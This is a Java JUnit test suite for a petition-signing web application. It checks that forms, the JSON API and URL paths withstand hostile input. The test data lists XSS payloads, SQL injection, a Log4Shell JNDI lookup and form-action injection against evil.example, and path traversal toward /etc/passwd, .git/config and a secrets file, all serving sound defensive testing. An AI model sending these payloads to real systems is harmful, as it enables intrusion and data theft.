package eu.undersigned;

import static eu.undersigned.TestApplication.API;
import static eu.undersigned.TestApplication.HOME;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Hostile text in every field of every form: a clear answer, never an error of ours, never markup on a page.
class HostileInputFaultTest extends OneApplication {
    @AfterEach
    void nothingBroke() {
        assertThat(application.get("/metrics").body()).doesNotContain("outcome=\"busy\"} 1.0");
        assertThat(application.get("/readyz").statusCode()).isEqualTo(200);
    }

    static Stream<Arguments> fieldsAndTexts() {
        String[] fields = {
            "name",
            "email",
            "country",
            "age_ok",
            "consent",
            "updates",
            "organisation",
            "organisation_updates",
            "email_checked",
            "email_use"
        };
        String[] texts = {
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' autofocus onfocus='alert(1)",
            "</select></form><form action=//evil.example>",
            "\u0000",
            "\u202Eevil\u202C",
            "\uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDE80",
            "\uFFFE\uFFFF",
            "A".repeat(60_000),
            "\u0301".repeat(5_000),
            "'; DROP TABLE signature; --",
            "${jndi:ldap://evil.example/x}",
            "{0} {name} '{",
            "../../../../etc/passwd",
            "javascript:alert(1)"
        };
        return Stream.of(fields).flatMap(field -> Stream.of(texts).map(text -> Arguments.of(field, text)));
    }

    @ParameterizedTest(name = "{0} {index}")
    @MethodSource("fieldsAndTexts")
    void theFormTakesItAsTextOrRefusesIt(String field, String text) {
        // Without consent, so that the page with the form comes back, with everything on it.
        HttpResponse<String> page = application.sign(
                SignerForm.of("Hos Tile", "hos@tile.example").without("consent").with(field, text));
        assertThat(page.statusCode()).isIn(422, 303, 413);
        assertThat(page.body())
                .doesNotContain("<script>alert")
                .doesNotContain("<img src=x")
                .doesNotContain("<form action=//evil")
                // Every attribute stands in double quotes, which alone could end it.
                .doesNotContainPattern("<[a-z]+(?: [a-z-]+(?:=\"[^\"]*\")?)* onfocus=");
    }

    @ParameterizedTest(name = "{0} {index}")
    @MethodSource("fieldsAndTexts")
    void theApiTakesItAsTextOrRefusesIt(String field, String text) {
        Map<String, String> document = new LinkedHashMap<>(
                SignerForm.of("Hos Tile", "hos@tile.example").without("updates").fields());
        document.put(field, text);
        HttpResponse<String> answer = application.visitor().postJson(API + "/signatures", document);
        assertThat(answer.statusCode()).isIn(422, 413, 202);
        assertThat(answer.headers().firstValue("content-type").orElseThrow()).contains("json");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Ann \u202Edlrow",
                "Ann\u0000Archer",
                "Ann\u2066Archer\u2069",
                "Ann\u200FArcher",
                "Ann\u001B[2J",
                "Ann\uFEFF",
                "😀😀😀",
                "٣٣٣"
            })
    void namesThatCannotBeShownAreRefused(String name) {
        assertThat(application.sign(SignerForm.of(name, "odd@name.example")).statusCode())
                .isEqualTo(422);
    }

    @ParameterizedTest
    @CsvSource({
        "Ann 😀 Archer, a",
        "Zoë D’Arcy-Øst, b",
        "李小龍, c",
        "محمد عبد الله, d",
        "क्षितिज, e",
        "Nguyễn Thị Minh Khai, f",
        "👩‍🚀 Ann, g",
        "O, h",
        "J.R.R. Tolkien, i",
        "Dr.Weiß, j",
        "ქეთევან, k",
        "می‌خواهم, l"
    })
    void namesOfPeopleAreTaken(String name, String mailbox) {
        TestMail mail = application.counted(name, mailbox + "@people.example");
        assertThat(mail.text()).contains(name);
        assertThat(application
                        .visitor()
                        .getJson(mail.minePath() + "/data.json")
                        .get("name")
                        .asString())
                .isEqualTo(java.text.Normalizer.normalize(name, java.text.Normalizer.Form.NFC));
    }

    @Test
    void markupInANameIsTextInTheMailAndOnEveryPage() {
        String name = "<b onclick=x>Ann</b> & \"Co\"";
        TestMail mail = application.counted(name, "markup@name.example");
        assertThat(mail.html()).doesNotContain("<b onclick").contains("&lt;b onclick=x&gt;Ann");
        assertThat(mail.text()).contains(name);
        assertThat(application.get(mail.minePath()).body())
                .contains("value=\"&lt;b onclick=x>Ann&lt;/b> &amp; &#34;Co&#34;\"");
        assertThat(application.get("/dev/mailbox").body()).doesNotContain("<b onclick");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/plain",
                "application/json",
                "multipart/form-data; boundary=x",
                "application/x-www-form-urlencodedx",
                "text/html"
            })
    void aFormOfAnotherContentTypeIsRefused(String type) {
        HttpResponse<String> answer = application
                .visitor()
                .post(
                        HOME + "/sign",
                        type,
                        SignerForm.of("Ann", "type@form.example").encoded().getBytes(StandardCharsets.US_ASCII));
        assertThat(answer.statusCode()).isEqualTo(415);
        assertThat(answer.headers().firstValue("content-type").orElseThrow()).startsWith("text/html");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "name=%",
                "name=%zz",
                "name=%C3%28",
                "name=%ED%A0%80",
                "%FF=x",
                "=",
                "&&&&",
                "name",
                "name=a=b=c",
                "%00=%00",
                "name=\u00e9"
            })
    void brokenEncodingIsAMistakeInTheForm(String body) {
        byte[] bytes = body.getBytes(StandardCharsets.ISO_8859_1);
        assertThat(application
                        .visitor()
                        .post(HOME + "/sign", Visitor.FORM, bytes)
                        .statusCode())
                .isEqualTo(422);
    }

    @Test
    void aHundredThousandFieldsAreNotLookedAt() {
        byte[] body = "a&".repeat(30_000).getBytes(StandardCharsets.US_ASCII);
        long before = System.nanoTime();
        assertThat(application
                        .visitor()
                        .post(HOME + "/sign", Visitor.FORM, body)
                        .statusCode())
                .isEqualTo(422);
        assertThat(System.nanoTime() - before).isLessThan(2_000_000_000L);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/en/every-second-counts/../../../etc/passwd",
                "/static/../application.properties",
                "/static/..%2f..%2fV1__foundation.sql",
                "/static/%2e%2e/messages/en.properties",
                "/static/site.css",
                "//evil.example/",
                "/en//every-second-counts",
                "/en/every-second-counts/",
                "/en/every-second-counts;jsessionid=1",
                "/en/every-second-counts%00",
                "/%00",
                "/%ff%fe",
                "/en/every-second-counts?organisation=%00",
                "/en/every-second-counts?organisation=%ff",
                "/en/every-second-counts?organisation=<script>",
                "/en/every-second-counts?organisation=eurochild&organisation=x",
                "/en/every-second-counts?%",
                "/EN/every-second-counts",
                "/en/%65very-second-counts",
                "/.git/config",
                "/data/secrets/pepper"
            })
    void pathTricksLeadNowhere(String path) {
        String answer = RawConnection.ask(
                application.port(), "GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
        assertThat(answer).startsWith("HTTP/1.1 ").doesNotStartWith("HTTP/1.1 5");
        assertThat(answer)
                .doesNotContain("root:x:")
                .doesNotContain("CREATE TABLE")
                .doesNotContain("frame.skip=")
                .doesNotContain("organisation=<script>");
        assertThat(answer).doesNotContain("Location: //").doesNotContain("location: //");
    }

    @ParameterizedTest
    @ValueSource(strings = {"action=reject&action=confirm", "", "action=%FF", "action=" + "x", "name=%"})
    void oddActionsOnAStrangersLinkAreAnswered(String body) {
        byte[] bytes = body.getBytes(StandardCharsets.US_ASCII);
        String token = "/en/confirm/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
        assertThat(application.visitor().post(token, Visitor.FORM, bytes).statusCode())
                .isEqualTo(404);
        assertThat(application
                        .visitor()
                        .post(HOME + "/inbox/018f0000-0000-7000-8000-000000000000", Visitor.FORM, bytes)
                        .statusCode())
                .isIn(303, 422);
    }
}
